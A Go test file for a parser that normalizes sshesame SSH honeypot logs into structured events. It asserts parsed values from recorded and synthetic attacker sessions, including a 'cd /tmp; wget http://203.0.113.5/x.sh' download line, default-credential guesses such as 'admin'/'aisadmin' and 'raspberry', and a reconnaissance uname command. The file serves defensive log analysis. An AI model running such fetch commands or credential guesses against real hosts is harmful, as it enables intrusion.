package sshesame_test

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/yagura-dev/yagura/internal/event"
	"github.com/yagura-dev/yagura/internal/parse"
	"github.com/yagura-dev/yagura/internal/parse/parsetest"
	"github.com/yagura-dev/yagura/internal/parse/sshesame"
)

var goldenFiles = []string{"crowdsec_sshesame.log", "synthetic.log", "damaged.log"}

func TestGolden(t *testing.T) {
	for _, file := range goldenFiles {
		t.Run(file, func(t *testing.T) { parsetest.Golden(t, "sshesame", file) })
	}
}

type rendered struct {
	Time      string         `json:"time"`
	ClassName string         `json:"class_name"`
	Activity  string         `json:"activity"`
	Outcome   string         `json:"outcome"`
	SrcIP     string         `json:"src_ip"`
	SrcPort   int            `json:"src_port"`
	DstIP     string         `json:"dst_ip"`
	DstPort   int            `json:"dst_port"`
	Host      string         `json:"host"`
	ActorUser string         `json:"actor_user"`
	UserAgent string         `json:"user_agent"`
	Warnings  []string       `json:"warnings"`
	Fields    map[string]any `json:"fields"`
}

func events(t *testing.T, res parsetest.Result) []rendered {
	t.Helper()
	var out []rendered
	for _, l := range res.Lines {
		if strings.HasPrefix(l, `{"dead_letter"`) {
			continue
		}
		var r rendered
		require.NoError(t, json.Unmarshal([]byte(l), &r), l)
		out = append(out, r)
	}
	return out
}

func TestCrowdSecSample(t *testing.T) {
	res := parsetest.Golden(t, "sshesame", "crowdsec_sshesame.log")
	require.Empty(t, res.Dead)
	evs := events(t, res)
	fwd := evs[0]
	require.Equal(t, "direct_tcpip", fwd.Activity)
	require.Equal(t, "Network Activity", fwd.ClassName)
	require.Equal(t, "190.2.139.67", fwd.SrcIP)
	require.Equal(t, 58629, fwd.SrcPort)
	require.Equal(t, "142.93.136.142", fwd.DstIP)
	require.Equal(t, 80, fwd.DstPort)
	require.Equal(t, "127.0.0.1:22", fwd.Fields["from"])
	require.Equal(t, float64(106), fwd.Fields["channel"])
	in := evs[1]
	require.Equal(t, "direct_tcpip_input", in.Activity)
	require.Equal(t, "GET /?requestid=53219 HTTP/1.1\r\nHost: ip.bablosoft.com\r\nConnection: close\r\nAccept: */*\r\nConnection: close\r\n\r\n", in.Fields["input"])
	require.Equal(t, "direct_tcpip_close", evs[2].Activity)
	require.Equal(t, "2022-05-06T05:10:03Z", evs[6].Time)
	require.Equal(t, "no_auth", evs[6].Activity)
	require.Equal(t, "failure", evs[6].Outcome)
	pw := evs[7]
	require.Equal(t, "password_auth", pw.Activity)
	require.Equal(t, "Authentication", pw.ClassName)
	require.Equal(t, "admin", pw.ActorUser)
	require.Equal(t, "aisadmin", pw.Fields["password"])
	require.Equal(t, "success", pw.Outcome)
	require.Equal(t, "SSH-2.0-OpenSSH_5.9", evs[8].Fields["client_version"])
	require.Equal(t, "2a00:1450:4010:c02::8b", evs[12].DstIP)
	require.Equal(t, "exec", evs[24].Activity)
	require.Equal(t, "uname -s -v -n -r -m", evs[24].Fields["command"])
	require.Equal(t, "session_close", evs[25].Activity)
	require.Equal(t, "env", evs[32].Activity)
	require.Equal(t, "LANG", evs[32].Fields["name"])
	require.Equal(t, "en_GB.UTF-8", evs[32].Fields["value"])
}

func TestSynthetic(t *testing.T) {
	res := parsetest.Golden(t, "sshesame", "synthetic.log")
	require.Empty(t, res.Dead)
	evs := events(t, res)
	require.Equal(t, "Base Event", evs[0].ClassName)
	require.Equal(t, "Listening on [::]:2022", evs[0].Fields["message"])
	require.Equal(t, "2024-04-01T09:00:01.123456Z", evs[1].Time)
	require.Equal(t, "public_key_auth", evs[1].Activity)
	require.Equal(t, []any{"123456", `pa"ss`}, evs[2].Fields["answers"])
	require.Equal(t, "tcpip_forward", evs[4].Activity)
	require.Equal(t, "pty", evs[6].Activity)
	require.Equal(t, float64(120), evs[6].Fields["width"])
	require.Equal(t, "session_input", evs[9].Activity)
	require.Equal(t, "cd /tmp; wget http://203.0.113.5/x.sh\r", evs[9].Fields["input"])
	require.Equal(t, "session_close", evs[11].Activity)
	require.Equal(t, "sftp", evs[13].Fields["subsystem"])
	require.Equal(t, "cancel_tcpip_forward", evs[15].Activity)
	require.Equal(t, "keepalive@openssh.com", evs[16].Fields["debug"].(map[string]any)["request_type"])
	require.Equal(t, "channel_input", evs[17].Activity, "input on a channel never opened in this input")
	require.Equal(t, "été \t tab", evs[17].Fields["input"])
	require.Equal(t, "2001:db8::7", evs[19].SrcIP)
	require.Equal(t, "honeypot", evs[20].Host)
	require.Equal(t, "raspberry", evs[20].Fields["password"])
	require.Contains(t, evs[21].Warnings, "record has no time of its own; ingest time used")
}

// TestBinaryInput checks that input is unquoted byte for byte, control characters and invalid UTF-8
// included. (It is not in a golden file: event.Value.AppendJSON renders such strings with Go escapes
// such as \x00, which are not JSON; a limitation of package event.)
func TestBinaryInput(t *testing.T) {
	p := sshesame.Format.New()
	var ev event.Event
	line := `2024/04/01 09:00:05 [198.51.100.4:40001] [channel 7] input: "\x00\x01binary\xff"`
	require.NoError(t, p.Parse(&parse.Record{Data: []byte(line)}, &ev))
	v, ok := ev.Fields.Lookup("input")
	require.True(t, ok)
	require.Equal(t, "\x00\x01binary\xff", v.Str())
	require.Equal(t, "channel_input", ev.Activity)
}

func TestDamaged(t *testing.T) {
	res := parsetest.Golden(t, "sshesame", "damaged.log")
	require.Equal(t, 2, res.Events)
	require.Len(t, res.Dead, 7)
	for _, d := range res.Dead {
		require.Contains(t, d.Reason, "expected", d.Reason)
	}
}

func TestCorpus(t *testing.T) {
	res := parsetest.DecodeCorpus(t, "honeypot_sshesame/crowdsec_hub_sshesame.log")
	require.Empty(t, res.Dead)
	require.Equal(t, 381, res.Events, "MANIFEST: 381 lines, every one an event")
	require.Equal(t, map[string]int{"sshesame": 381}, res.Types)
	activity := map[string]int{}
	for _, e := range events(t, res) {
		activity[e.Activity]++
		require.NotEmpty(t, e.SrcIP)
	}
	t.Logf("activities: %v", activity)
	require.Zero(t, activity[""], "every line is recognised")
	require.Equal(t, 49, activity["password_auth"])
	require.Equal(t, 21, activity["no_auth"])
	require.Equal(t, 56, activity["direct_tcpip"])
	require.Equal(t, 6, activity["exec"])
	require.Equal(t, 70, activity["session_close"]+activity["direct_tcpip_close"]+activity["channel_close"])
}

func TestDetect(t *testing.T) {
	score := func(line string) int { return sshesame.Format.Detect(&parse.Record{Data: []byte(line)}) }
	require.Equal(t, 90, score(`2022/05/06 05:10:03 [195.3.147.60:28696] authentication for user "admin" without credentials rejected`))
	require.Equal(t, 50, score(`2022/05/06 05:10:03 [195.3.147.60:28696] a future message`))
	require.Equal(t, 70, score(`May  6 05:10:03 h sshesame[1]: 2022/05/06 05:10:03 [195.3.147.60:28696] connection closed`))
	require.Equal(t, 0, score(`2022/05/06 05:10:03 Listening on [::]:2022`))
	require.Equal(t, 0, score(`Feb 12 14:10:21 sd-126005 sshd[16378]: Invalid user pascal from 35.188.49.176 port 53502`))
}

func FuzzSshesame(f *testing.F) {
	parsetest.Fuzz(f, "sshesame", goldenFiles...)
}

func BenchmarkParse(b *testing.B) {
	p := sshesame.Format.New()
	recs := []parse.Record{
		{Data: []byte(`2022/05/06 05:10:03 [195.3.147.60:28696] authentication for user "admin" with password "aisadmin" accepted`)},
		{Data: []byte(`2022/05/06 04:53:57 [190.2.139.67:58629] [channel 106] direct TCP/IP forwarding from 127.0.0.1:22 to 142.93.136.142:80 requested`)},
		{Data: []byte(`2022/05/06 04:53:57 [190.2.139.67:58629] [channel 106] input: "GET /?requestid=53219 HTTP/1.1\r\nHost: ip.bablosoft.com\r\n\r\n"`)},
		{Data: []byte(`2022/05/06 04:53:57 [190.2.139.67:58629] [channel 106] closed`)},
	}
	var ev event.Event
	b.ReportAllocs()
	for i := 0; b.Loop(); i++ {
		ev.Reset()
		if err := p.Parse(&recs[i%len(recs)], &ev); err != nil {
			b.Fatal(err)
		}
	}
}
